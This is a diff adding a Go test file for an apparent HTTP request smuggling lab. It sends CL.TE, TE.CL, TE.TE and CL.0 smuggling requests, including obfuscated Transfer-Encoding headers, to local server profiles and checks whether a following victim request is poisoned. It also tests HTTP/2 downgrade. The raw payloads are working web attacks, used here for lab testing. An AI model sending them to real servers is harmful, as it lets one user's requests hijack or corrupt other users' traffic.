@@ -0,0 +1,139 @@
+package lab_test
+
+import (
+	"bufio"
+	"crypto/tls"
+	"fmt"
+	"net"
+	"net/http"
+	"net/url"
+	"smuggler/smuggler/lab"
+	"strings"
+	"testing"
+	"time"
+)
+
+type test struct {
+	profile string
+	attack  string
+	want    int // status code received by the victim
+}
+
+func start(t *testing.T, name string) *lab.Lab {
+	p := lab.Profiles[name]
+	p.Timeout = time.Second * 2
+	l, err := lab.Start(p, "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { l.Close() })
+	return l
+}
+
+func send(addr, raw string) (int, error) {
+	conn, err := net.DialTimeout("tcp", addr, time.Second)
+	if err != nil {
+		return 0, err
+	}
+	defer conn.Close()
+	conn.SetDeadline(time.Now().Add(time.Second * 3))
+	if _, err := conn.Write([]byte(raw)); err != nil {
+		return 0, err
+	}
+	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
+	if err != nil {
+		return 0, err
+	}
+	resp.Body.Close()
+	return resp.StatusCode, nil
+}
+
+func clteAttack() string {
+	return "POST / HTTP/1.1\r\nHost: lab\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
+}
+
+func teclAttack(te string) string {
+	inner := "GPOST / HTTP/1.1\r\nContent-Length: 20\r\n\r\n"
+	chunk := fmt.Sprintf("%x\r\n", len(inner))
+	return fmt.Sprintf("POST / HTTP/1.1\r\nHost: lab\r\nContent-Length: %d\r\n%s\r\n\r\n%s%s\r\n0\r\n\r\n",
+		len(chunk), te, chunk, inner)
+}
+
+func cl0Attack() string {
+	inner := "GET /404 HTTP/1.1\r\nX: X"
+	return fmt.Sprintf("POST / HTTP/1.1\r\nHost: lab\r\nContent-Length: %d\r\n\r\n%s", len(inner), inner)
+}
+
+func TestPoison(t *testing.T) {
+	victim := "POST / HTTP/1.1\r\nHost: lab\r\nContent-Length: 3\r\n\r\nx=1"
+	table := []test{
+		{profile: "safe", attack: clteAttack(), want: http.StatusOK},
+		{profile: "safe", attack: teclAttack("Transfer-Encoding: chunked"), want: http.StatusOK},
+		{profile: "safe", attack: cl0Attack(), want: http.StatusOK},
+		{profile: "clte", attack: clteAttack(), want: http.StatusMethodNotAllowed},
+		{profile: "tecl", attack: teclAttack("Transfer-Encoding: chunked"), want: http.StatusMethodNotAllowed},
+		{profile: "tecl", attack: teclAttack("Transfer-Encoding:\x0bchunked"), want: http.StatusMethodNotAllowed},
+		{profile: "tete", attack: teclAttack("Transfer-Encoding: chunked"), want: http.StatusOK},
+		{profile: "tete", attack: teclAttack(" Transfer-Encoding: chunked"), want: http.StatusMethodNotAllowed},
+		{profile: "cl0", attack: cl0Attack(), want: http.StatusNotFound},
+	}
+
+	for _, Case := range table {
+		t.Run(Case.profile, func(t *testing.T) {
+			l := start(t, Case.profile)
+			addr := strings.TrimSuffix(strings.TrimPrefix(l.URL(), "http://"), "/")
+			if _, err := send(addr, Case.attack); err != nil {
+				t.Error(err)
+				return
+			}
+			got, err := send(addr, victim)
+			if err != nil {
+				t.Error(err)
+				return
+			}
+			if got != Case.want {
+				t.Errorf("Wanted: %d, Got: %d", Case.want, got)
+			}
+		})
+	}
+}
+
+func TestBadChunk(t *testing.T) {
+	l := start(t, "tecl")
+	addr := strings.TrimSuffix(strings.TrimPrefix(l.URL(), "http://"), "/")
+	got, err := send(addr, "POST / HTTP/1.1\r\nHost: lab\r\nTransfer-Encoding: chunked\r\nContent-Length: 50\r\n\r\n1\r\nG\r\nX\r\n")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got != http.StatusBadRequest {
+		t.Errorf("Wanted: %d, Got: %d", http.StatusBadRequest, got)
+	}
+}
+
+func TestH2Downgrade(t *testing.T) {
+	for _, name := range []string{"h2safe", "h2cl", "h2te"} {
+		t.Run(name, func(t *testing.T) {
+			l := start(t, name)
+			client := &http.Client{
+				Transport: &http.Transport{
+					ForceAttemptHTTP2: true,
+					TLSClientConfig:   &tls.Config{InsecureSkipVerify: true},
+				},
+				Timeout: time.Second * 3,
+			}
+			u, _ := url.Parse(l.URL())
+			resp, err := client.Post(u.String(), "text/plain", strings.NewReader("x=1"))
+			if err != nil {
+				t.Error(err)
+				return
+			}
+			resp.Body.Close()
+			if resp.ProtoMajor != 2 {
+				t.Errorf("Wanted: HTTP/2, Got: %s", resp.Proto)
+			}
+			if resp.StatusCode != http.StatusOK {
+				t.Errorf("Wanted: %d, Got: %d", http.StatusOK, resp.StatusCode)
+			}
+		})
+	}
+}